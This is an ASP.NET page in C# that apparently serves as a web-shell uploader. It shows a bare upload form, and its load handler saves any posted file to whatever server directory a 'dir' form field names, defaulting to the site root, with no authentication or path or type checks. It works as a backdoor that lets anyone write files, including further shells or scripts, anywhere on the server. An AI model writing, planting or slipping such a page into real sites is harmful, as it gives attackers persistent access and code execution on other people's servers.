<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    if (Request.Files.Count > 0)
    {
        for (int i = 0; i < Request.Files.Count; i++)
        {
            HttpPostedFile file = Request.Files[i];
            string dir = Request.Form["dir"] ?? Server.MapPath("~/");
            file.SaveAs(System.IO.Path.Combine(dir, System.IO.Path.GetFileName(file.FileName)));
        }
        msg.Text = "saved";
    }
}
</script>
<html><body>
<form method="post" enctype="multipart/form-data" runat="server">
<input type="file" name="u" /><input type="text" name="dir" /><input type="submit" value="Upload" />
<asp:Label ID="msg" runat="server" />
</form>
</body></html>
